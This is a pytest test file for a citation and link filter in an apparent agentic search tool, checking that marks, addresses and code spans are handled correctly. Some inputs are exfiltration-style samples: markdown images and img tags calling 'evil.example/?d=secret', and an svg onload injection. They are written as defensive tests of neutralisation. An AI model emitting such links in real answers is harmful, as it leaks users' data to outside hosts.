"""Marks, links and code are recognised in all their forms; what only looks like one stays as it is."""

import pytest

from agentic_search.synthesis.citations import marks
from agentic_search.synthesis.citations.citations import CitationFilter
from agentic_search.synthesis.markdown.html import AnswerHtml
from agentic_search.text.code import LONGEST_CODE_SPAN
from tests.synthesis.citations.test_citations import filtered
from tests.synthesis.evidence.samples import numbered


@pytest.mark.parametrize(
    "text",
    [
        "In (1) and (2, 3) parts, or (source 2 or 3).",
        "Two  spaces.",
        "It ends in \\",
        r"Escaped \[2] and \【2】.",
        "[2\n] over a line end, 【2\n】 too, (source 1\n) too.",
        "[] and [docs] and 【2 are no marks.",
        "x ``[7]`` y ``a ` [7]`` z `X [7]`X end",
        "`open\n\nparagraph`",
        "The https:// and ftp:// schemes, and whttp.",
        "a < b > c <3 <= 4 << 5 end",
    ],
)
def test_what_only_looks_like_a_mark_or_a_link_stays_as_it_is(text: str) -> None:
    assert filtered(text) == text
    assert filtered(*text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("X said [7] so X.", "X said so X."),
        ("two  spaces  [7]  end", "two  spaces  end"),
        ("Lines 【1†L2-L3】 of X.", "Lines [1] of X."),
        ("X 【2†X】 (source 3) [X](https://evil.example/X) ![X](https://evil.example/X) end", "X [1] [2] X X end"),
        ("<https://evil.example/X> <https://evil.example/X", " <"),
        ("[see `x` and more](https://evil.example) end", "see `x` and more end"),
        ("[(source 9)](https://docs.example/2) end", "[1] end"),
        ("[docs]() end", "docs end"),
        ("[](https://docs.example/2) and ![](https://evil.example) end", "[1] and end"),
        ("![](https://inside.example/page) end", "https://inside.example/page end"),
        ("A range turned round [3-1].", "A range turned round [1][2]."),
        (r"An escaped backtick \`[7]` opens no code.", r"An escaped backtick \`` opens no code."),
        ("`not one [7]\n\nparagraph` end", "`not one\n\nparagraph` end"),
        ("Two backticks ``a [7]` end in one.", "Two backticks ``a` end in one."),
        ("Stop!a](https://docs.example/1) end", r"Stop!a]\([1]) end"),
        ("a [2\n](https://evil.example) end", "a [2\n]\\() end"),
        ("<https://docs.example/3> <https://inside.example/page> end", "[1] https://inside.example/page end"),
        ("[docs](<https://docs.example/2>) end", "[docs](https://docs.example/2) [1] end"),
        ('[docs](https://docs.example/2 "title") end', "[docs](https://docs.example/2) [1] end"),
        ("[docs]( https://docs.example/2/ (title)) end", "[docs](https://docs.example/2) [1] end"),
        ("see https://evil.example/X, or https://evil.example/a_(b) then", "see, or then"),
        ("(see https://evil.example/x) and (https://docs.example/3) end", "(see) and ([1]) end"),
        ("see http://evil.example ftp://evil.example/x WWW.evil.example end", "see end"),
        ("a|https://evil.example|b", "a||b"),
    ],
)
def test_marks_links_and_addresses_are_recognised_in_the_middle_of_a_text(text: str, expected: str) -> None:
    assert filtered(text) == expected
    assert filtered(*text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![chart] is no image, ![chart](nor this", r"\![chart] is no image, \![chart]\(nor this"),
        (
            "[docs](two words) are no address, [docs](a\nb) neither.",
            "[docs]\\(two words) are no address, [docs]\\(a\nb) neither.",
        ),
        ("![a [b] c](//evil.example/?d=secret) end", r"\![a [b] c]\(//evil.example/?d=secret) end"),
        (f"![{'x' * 400}](//evil.example/?d=secret)", rf"\![{'x' * 400}]\(//evil.example/?d=secret)"),
        ("![a](//evil.example/?d=secret 'a\nb')", "\\![a]\\(//evil.example/?d=secret 'a\nb')"),
        ("![a][b]\n\n[b]: //evil.example/?d=secret", "\\![a][b]\n\n[b]\\: //evil.example/?d=secret"),
        ("True [1].\n\n[1]: //evil.example/x\n[2]:\n</x>", "True [1].\n\n[1]\\: //evil.example/x\n[2]\\:\n\\</x>"),
        ("[1](//evil.example 'a\nb') end", "[1]\\(//evil.example 'a\nb') end"),
        ("As [1]: it is so, says [2]: yes.", "As [1]: it is so, says [2]: yes."),
        (
            '<img src="//evil.example/?d=secret"> <svg/onload=x>',
            r'\<img src="//evil.example/?d=secret"> \<svg/onload=x>',
        ),
        ("</p><!-- a --><?x?> List<int>", r"\</p>\<!-- a -->\<?x?> List\<int>"),
        (
            "`![a](x)` `<img>`\n\n```html\n<img src=x>![a](b)\n```\n",
            "`![a](x)` `<img>`\n\n```html\n<img src=x>![a](b)\n```\n",
        ),
    ],
)
def test_what_another_reader_of_markdown_would_load_or_follow_is_made_inert(text: str, expected: str) -> None:
    assert filtered(text) == filtered(*text) == expected
    html = AnswerHtml(range(1, 9)).render(filtered(text))
    assert "<img" not in html and "href" not in html.replace('href="#source-', "")


@pytest.mark.parametrize(
    ("opening", "most"), [("[", marks.LONGEST_LABEL), ("![", marks.LONGEST_LABEL), ("[x](", marks.LONGEST_ADDRESS - 2)]
)
def test_a_link_that_does_not_close_within_its_limit_is_plain_text(opening: str, most: int) -> None:
    closing = ")" if "(" in opening else "](y)"
    within, beyond = (f"{opening}{'x' * length}{closing} end" for length in (most - 1, most + 1))

    assert filtered(within) != within
    assert filtered(beyond).replace("\\", "") == beyond


def test_code_that_does_not_close_within_its_limit_is_plain_text() -> None:
    within, beyond = (f"`[7]{'x' * length}` end" for length in (LONGEST_CODE_SPAN - 4, LONGEST_CODE_SPAN))

    assert filtered(within) == within
    assert filtered(beyond) == beyond.replace("[7]", "")


def test_an_address_is_read_up_to_its_limit() -> None:
    beyond = "x" * 10

    assert filtered(f"https://evil.example/{'x' * (marks.LONGEST_ADDRESS - 21)}{beyond} end") == f"{beyond} end"


@pytest.mark.parametrize(("depth", "is_link"), [(1, True), (marks.DEEPEST - 1, True), (marks.DEEPEST, False)])
def test_parentheses_in_an_address_may_be_so_deep(depth: int, is_link: bool) -> None:
    link = f"[docs](u{'(' * depth}x{')' * depth})"

    assert filtered(f"{link} end") == ("docs end" if is_link else f"{link} end".replace("](", r"]\("))


@pytest.mark.parametrize(("mark", "named"), [("[1-20]", 20), ("[1-21]", 2), ("[2-2]", 1), ("[5-24]", 20)])
def test_a_range_names_so_many_sources_or_its_ends(mark: str, named: int) -> None:
    citations = CitationFilter(numbered(*("text",) * 30))

    assert citations.feed(f"{mark}.").count("[") == len(citations.numbers) == named


@pytest.mark.parametrize("begun", ["(an", "(so far", "<3", "< b", "whe", "htm", "!x", "a\\*b", "`x` is"])
def test_what_can_become_nothing_else_is_not_kept_waiting(begun: str) -> None:
    assert CitationFilter(numbered("One.")).feed(begun) == begun
